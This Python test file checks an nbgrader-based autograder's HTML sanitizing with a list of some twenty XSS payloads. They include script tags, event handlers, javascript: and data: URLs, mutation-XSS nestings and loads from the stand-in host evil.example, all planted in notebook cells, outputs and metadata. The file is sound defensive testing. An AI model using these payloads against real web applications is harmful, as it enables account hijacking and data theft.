"""Feedback and formgrader never run a learner's HTML, JavaScript or SVG, wherever it stands."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat import NotebookNode
from nbgrader.server_extensions.formgrader import handlers

from autograder import class_run
from autograder.__main__ import main
from autograder.gradebook import FeedbackPages, load_course
from autograder.grading import Course
from autograder.pages import MOST_TEXT, clean_html, highlight_code, markdown2html
from grading_course import LESSONS, FakeEngine, answered, hand_in, make_course, release_notebooks

pytestmark = pytest.mark.slow

FIRST = LESSONS[0]
CANARY = "window.canary=1"
HOSTILE = (
    f"<script>{CANARY}</script>",
    f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><scr<script>ipt>{CANARY}</script>",
    f'<img src=x onerror="{CANARY}">',
    f'<img src="data:image/png;base64,AAAA" width="1 onload={CANARY}" alt="a" onload={CANARY}>',
    f"<svg onload={CANARY}><script>{CANARY}</script><animate onbegin={CANARY} dur=1s></svg>",
    f'<a href="javascript:{CANARY}">x</a><a href=" java&#x0A;script:{CANARY}">x</a>',
    f'<a href="data:text/html,<script>{CANARY}</script>">x</a>',
    f'<iframe srcdoc="<script>{CANARY}</script>"></iframe><object data="data:text/html,x"></object><embed>',
    f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}></style></table></mtext></math>",
    f'<noscript><p title="</noscript><img src=x onerror={CANARY}>"></noscript>',
    f"<form action=//evil.example><input class=score id=predict_flow_check onfocus={CANARY}></form>",
    '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css';</style>",
    '<div style="position:fixed;background:url(//evil.example/x);width:100%" class="btn score">x</div>',
    '<img src="//evil.example/beacon.png"><video src=//evil.example/x autoplay></video>',
    f"</pre></div></body></html><script>{CANARY}</script>",
    f"<!--><script>{CANARY}</script-->",
    f"{{{{ ''.__class__.__mro__ }}}} {{% raw %}} <script>{CANARY}</script>",
    f"$\\href{{javascript:{CANARY}}}{{x}}$ `<script>{CANARY}</script>`",
    f"![x](x'onerror='{CANARY}) [x](javascript:{CANARY}) ![y](attachment:evil.svg)",
    f"```mermaid\ngraph TD; a-->|<script>{CANARY}</script>|b\n```",
    f"\x1b]8;;javascript:{CANARY}\x07x\x1b]8;;\x07 \x1b[31m<script>{CANARY}</script>\x1b[0m",
)
# Scripts of nbgrader's own templates.
_OWN_SCRIPTS = re.compile(
    r"https://cdnjs\.cloudflare\.com/ajax/libs/mathjax/|/formgrader/static/|/base/formgrader/static/"
)
_OWN_BUTTON = "toggle_name("


_ADDRESSES = ("href", "src", "action", "srcdoc", "data", "formaction", "background", "poster")
_ACTIVE = ("iframe", "object", "embed", "svg", "math", "base", "form", "video", "audio", "frame", "applet")


def active_parts(page: str) -> list[str]:
    """Everything in a page that could run, load or send something, and is not nbgrader's own."""
    soup = BeautifulSoup(page, "html.parser")
    found = []
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name == "script":
            if (tag.get("src") and not _OWN_SCRIPTS.search(str(tag["src"]))) or "canary" in tag.text:
                found.append(str(tag)[:120])
        elif name in _ACTIVE or (name == "link" and "evil" in str(tag)):
            found.append(str(tag)[:120])
        for attribute, value in tag.attrs.items():
            text = "".join(value) if isinstance(value, list) else str(value)
            squeezed = re.sub(r"[\s\x00-\x1f]", "", text.lower())
            if attribute.startswith("on") and _OWN_BUTTON not in text:
                found.append(f"{name} {attribute}={text[:80]}")
            loads = (
                squeezed.startswith(("javascript:", "vbscript:", "data:text")) or "evil.example" in squeezed
            )
            if attribute in _ADDRESSES and loads:
                found.append(f"{name} {attribute}={text[:80]}")
            if attribute == "style" and re.search(r"url\(|position|expression", squeezed):
                found.append(f"{name} style={text[:80]}")
    return found


def test_the_search_finds_what_it_looks_for() -> None:
    """The payloads as they are would be found: otherwise the tests below prove nothing."""
    assert sum(bool(active_parts(payload)) for payload in HOSTILE) >= 14


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("render", [clean_html, markdown2html, highlight_code])
def test_no_renderer_lets_anything_active_through(render: Any, payload: str) -> None:
    """HTML outputs, markdown cells and comments, and code."""
    assert active_parts(render(payload)) == []


def test_what_lessons_and_reports_need_survives() -> None:
    """Tables, links, inline pictures with their text, details, plain styles and mathematics."""
    kept = (
        '<div style="color:#333;border-left:5px solid #a63d00" role="status"><table><tbody>'
        '<tr><td>1</td></tr></tbody></table><details open=""><summary>Hint 1</summary>x</details><a href="https://pytorch.org">t</a>'
        '<img alt="a drawing" src="data:image/svg+xml;base64,PHN2Zy8+"></div>'
    )
    assert BeautifulSoup(clean_html(kept), "html.parser") == BeautifulSoup(kept, "html.parser")
    assert "$a &lt; b$" in markdown2html("$a < b$")
    assert "<table>" in markdown2html("|a|b|\n|-|-|\n|1|2|")


@pytest.mark.parametrize(
    "text", ["[" * 30_000, ">" * 19_000, "*a **" * 3_900, "<a " * 6_000, "$" * 19_999, "x" * 500_000]
)
def test_text_made_to_be_slow_is_bounded(text: str) -> None:
    """Nested or endless markdown neither hangs nor fills a page."""
    assert len(markdown2html(text)) < 40 * MOST_TEXT
    assert len(highlight_code(text)) < 40 * MOST_TEXT


@pytest.fixture(scope="module")
def hostile_course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A graded course in which one learner wrote the payloads wherever a learner can write."""
    root = make_course(tmp_path_factory.mktemp("hostile") / "course")
    released = release_notebooks(root, (FIRST,))[FIRST]
    everything = "\n\n".join(HOSTILE)
    notebook = answered(
        released,
        dict.fromkeys(("predict_flow", "sequential_model"), f"'''{everything}'''  # prints {everything}"),
    )
    for number, payload in enumerate(HOSTILE):
        added = [
            nbformat.v4.new_markdown_cell(payload),
            nbformat.v4.new_code_cell(f"# prints {payload}"),
            nbformat.v4.new_raw_cell(payload),
        ]
        for cell in added:
            cell.metadata.update(tags=[payload], magics_language=payload, raw_mimetype="text/html")
        notebook.cells[3 + number : 3 + number] = added
    notebook.metadata["title"] = notebook.metadata["language_info"]["pygments_lexer"] = everything
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"x": everything}}
    hand_in(root, "mallory", FIRST, notebook)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(root)
        patch.setattr(class_run, "open_engine", lambda *_args, **_options: FakeEngine())
        patch.setattr(Course, "prepare", lambda *_args: None)
        assert main(["grade"]) == 0
    return root


def _run_again_by_hand(root: Path) -> None:
    """As if the graded notebook had been opened and run in JupyterLab: hostile outputs of every kind."""
    path = root / "autograded" / "mallory" / FIRST / f"{FIRST}.ipynb"
    notebook = json.loads(path.read_text(encoding="utf-8"))
    mimes = (
        "text/html",
        "image/svg+xml",
        "text/markdown",
        "text/latex",
        "application/javascript",
        "text/plain",
    )
    cells = [cell for cell in notebook["cells"] if cell["cell_type"] == "code"]
    for cell, payload in zip(cells, HOSTILE * 9, strict=False):
        widget = {"application/vnd.jupyter.widget-view+json": {"model_id": payload}}
        outputs: list[dict[str, Any]] = [
            {
                "output_type": "display_data",
                "data": {mime: payload},
                "metadata": {"text/html": {"isolated": True}},
            }
            for mime in mimes
        ]
        picture = {"data": {"image/png": f'"><script>{CANARY}</script>'}, "metadata": {}}
        sized = {
            "data": {"image/png": "iVBORw0KGgo="},
            "metadata": {
                "image/png": {"width": f"1 onload={CANARY}", "alt": payload},
                "filenames": {"image/png": payload},
            },
        }
        outputs += [
            {"output_type": "display_data", **shown}
            for shown in (picture, sized, {"data": widget, "metadata": {}})
        ]
        outputs += [
            {"output_type": "stream", "name": "stderr", "text": payload},
            {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
        ]
        cell["outputs"] = outputs
    path.chmod(0o644)
    path.write_text(json.dumps(notebook), encoding="utf-8")


def _formgrader_page(root: Path) -> str:
    """The page that formgrader shows of a submission, made as its server extension makes it."""
    app = load_course(root)
    config = app.config.copy()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {
        "assignment_id": FIRST,
        "notebook_id": FIRST,
        "submission_id": "1",
        "index": 0,
        "total": 1,
        "base_url": "/base",
        "student": HOSTILE[0],
        "last_name": HOSTILE[2],
        "first_name": HOSTILE[4],
        "notebook_path": f'"><script>{CANARY}</script>',
    }
    file = root / "autograded" / "mallory" / FIRST / f"{FIRST}.ipynb"
    page, _ = HTMLExporter(config=config).from_filename(str(file), resources=resources)
    return str(page)


def _feedback_page(root: Path) -> str:
    return (root / "feedback" / "mallory" / FIRST / f"{FIRST}.html").read_text(encoding="utf-8")


def test_pages_about_a_hostile_notebook_hold_nothing_active(hostile_course: Path) -> None:
    """Cells, outputs, reports, tags, metadata and names, in feedback and in formgrader."""
    for page in (_feedback_page(hostile_course), _formgrader_page(hostile_course)):
        assert active_parts(page) == []
        assert page.count("canary") > 2 * len(HOSTILE), "the payloads are shown, as text"
    graded = nbformat.read(hostile_course / "autograded" / "mallory" / FIRST / f"{FIRST}.ipynb", as_version=4)
    assert _kinds(graded) <= {"text/html", "text/plain"}
    assert "widgets" not in graded.metadata


def _kinds(notebook: NotebookNode) -> set[str]:
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", [])]
    return {mime for output in outputs for mime in output.get("data", {})}


def test_pages_about_a_notebook_run_again_by_hand_hold_nothing_active(
    hostile_course: Path, tmp_path: Path
) -> None:
    """Hostile outputs of every kind in the graded notebook itself, a comment and a mark beside them."""
    _run_again_by_hand(hostile_course)
    pages = FeedbackPages(hostile_course)
    assert pages.write("mallory", FIRST)
    assert not pages.write("mallory", FIRST), "a page that shows everything already is left alone"
    pages.close()
    for page in (_feedback_page(hostile_course), _formgrader_page(hostile_course)):
        assert active_parts(page) == []


@pytest.mark.browser
def test_a_browser_runs_nothing_of_it(hostile_course: Path, needs_browser: str) -> None:
    """Chromium opens both pages: the canary stays silent, and nothing is asked of any other place."""
    from playwright.sync_api import sync_playwright

    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=needs_browser, args=["--no-sandbox", "--disable-gpu", "--no-first-run"]
        )
        page = browser.new_page()
        page.route("**/*", lambda route: (asked.append(route.request.url), route.abort()))
        for content in (_feedback_page(hostile_course), _formgrader_page(hostile_course)):
            page.set_content(content, wait_until="domcontentloaded")
            page.wait_for_timeout(300)
            assert page.evaluate("window.canary") is None
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
        browser.close()
    assert [url for url in asked if not _OWN_SCRIPTS.search(url) and "/formgrader/static/" not in url] == []
